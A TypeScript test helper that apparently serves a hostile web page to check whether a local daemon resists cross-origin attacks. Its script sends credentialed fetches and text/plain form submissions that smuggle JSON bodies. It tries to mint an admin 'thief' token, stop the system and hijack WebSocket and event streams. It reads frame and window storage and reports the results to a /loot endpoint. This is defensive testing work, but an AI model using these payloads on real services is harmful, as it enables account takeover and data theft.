import type { Answer } from "./hostile-server.js";

/** What the hostile page managed, as it reports it: an attack's name and what it could read or reach. */
export interface Loot {
  attack: string;
  got: string;
}

/** Serves the hostile page and its helpers, and hands over what the page reports when it is done. */
export function hostilePages(target: string, done: (loot: Loot[]) => void): Answer {
  return ({ method, url, body }, response) => {
    const path = url.split("?", 1)[0];
    if (method === "POST" && path === "/loot") {
      done(JSON.parse(body) as Loot[]);
      response.writeHead(204).end();
    } else if (path === "/redirect") {
      // 307 makes the browser repeat method and body at the daemon.
      response.writeHead(307, { location: `${target}${url.slice(url.indexOf("?") + 1)}` }).end();
    } else if (path === "/") {
      response.writeHead(200, { "content-type": "text/html" }).end(page(target));
    } else {
      response.writeHead(200, { "content-type": "text/plain" }).end("");
    }
  };
}

/** Every way in which a page of another origin can make a browser send something with its cookies. */
function page(target: string): string {
  return `<!doctype html><title>hostile</title><body><script>
const target = ${JSON.stringify(target)};
const loot = [];
const send = JSON.stringify({ kind: "peer_message", to: "victim", body: "from a hostile page" });
const call = (method, params) => JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 3000))]).catch(() => {});
const read = async (attack, answer) => {
  const text = await answer.text();
  if (answer.type !== "opaque") loot.push({ attack, got: answer.status + " " + text.slice(0, 200) });
};
const tries = [];
const writes = [
  ["/comms/send", send], ["/rpc", call("comms/send", JSON.parse(send))], ["/rpc", call("system/stop", {})],
  ["/tokens", JSON.stringify({ name: "thief", scopes: ["system:admin"] })], ["/system/stop", "{}"],
  ["/auth/tickets", "{}"], ["/mcp", call("initialize", {})], ["/auth/sign-out", "{}"], ["/auth/sign-in", '{"ticket":"x"}'],
  ["/sessions", JSON.stringify({ name: "thief" })],
];
for (const mode of ["no-cors", "cors"]) for (const path of ["/status", "/sessions", "/tokens", "/metrics"])
  tries.push(["fetch " + mode + " " + path, () => fetch(target + path, { mode, credentials: "include" })]);
for (const [path, body] of writes) {
  tries.push(["post " + path, () => fetch(target + path, { method: "POST", mode: "no-cors", credentials: "include", body })]);
  tries.push(["json " + path, () => fetch(target + path, { method: "POST", credentials: "include", body,
    headers: { "content-type": "application/json", "parley-page-key": "guess" } })]);
  tries.push(["redirect " + path, () => fetch("/redirect?" + path, { method: "POST", mode: "no-cors", credentials: "include", body })]);
}
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const loaded = (node, attack) => new Promise((resolve) => {
  node.onload = () => { if (node.tagName === "IMG" || node.tagName === "SCRIPT") loot.push({ attack, got: "loaded" }); resolve(); };
  node.onerror = () => resolve();
  document.body.append(node);
});
const make = (tag, fields) => Object.assign(document.createElement(tag), fields);
function form(path, body) {
  const frame = make("iframe", { name: "f" + Math.random() });
  const sent = make("form", { method: "post", action: target + path, enctype: "text/plain", target: frame.name });
  // A body of text/plain is name=value: the equals sign ends up inside a JSON string.
  sent.append(make("input", { name: body.slice(0, -2) + ',"x":"', value: '"}' }));
  document.body.append(frame, sent);
  sent.submit();
}
async function socket(path, first) {
  await new Promise((resolve) => {
    const ws = new WebSocket(target.replace("http", "ws") + path);
    ws.onopen = () => { loot.push({ attack: "websocket", got: "open" }); for (const frame of first) ws.send(frame); };
    ws.onmessage = ({ data }) => loot.push({ attack: "websocket", got: String(data).slice(0, 200) });
    ws.onclose = resolve;
    setTimeout(() => { ws.close(); resolve(); }, 1000);
  });
}
async function events() {
  await new Promise((resolve) => {
    const source = new EventSource(target + "/comms/stream?scope=session&session_id=x", { withCredentials: true });
    source.onmessage = ({ data }) => loot.push({ attack: "event source", got: data });
    source.onerror = () => { source.close(); resolve(); };
  });
}
// Until it has loaded, a window shows an empty page that belongs to the hostile origin.
async function hasLeft(other) {
  for (let looks = 0; looks < 50; looks += 1) {
    try { if (other.location.href !== "about:blank") return true; } catch { return true; }
    await wait(50);
  }
  return false;
}
async function frame(path) {
  const inner = make("iframe", { src: target + path });
  document.body.append(inner);
  if (!(await hasLeft(inner.contentWindow))) return;
  try { loot.push({ attack: "frame", got: inner.contentDocument.body.innerText.slice(0, 100) }); } catch {}
  try { loot.push({ attack: "frame storage", got: JSON.stringify(inner.contentWindow.localStorage) }); } catch {}
}
(async () => {
  for (const [attack, go] of tries) await within(go().then((answer) => read(attack, answer)));
  for (const [path, body] of writes) { form(path, body); navigator.sendBeacon(target + path, body); }
  for (const path of ["/status", "/sessions", "/metrics", "/system/stop"]) {
    await within(loaded(make("img", { src: target + path }), "img " + path));
    await within(loaded(make("script", { src: target + path }), "script " + path));
  }
  await within(socket("/rpc", [call("initialize", { contract: "0.3.0" }), call("sessions/list", {}), call("comms/send", JSON.parse(send))]));
  await within(events());
  for (const path of ["/", "/docs/", "/status"]) await within(frame(path));
  const opened = window.open(target + "/");
  if (opened !== null && (await hasLeft(opened)))
    try { loot.push({ attack: "opened", got: opened.localStorage.length + " items" }); } catch {}
  opened?.postMessage("page-key", "*");
  opened?.close();
  if (localStorage.length > 0) loot.push({ attack: "storage", got: JSON.stringify(localStorage) });
  await wait(500);
  await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
})();
</script>`;
}
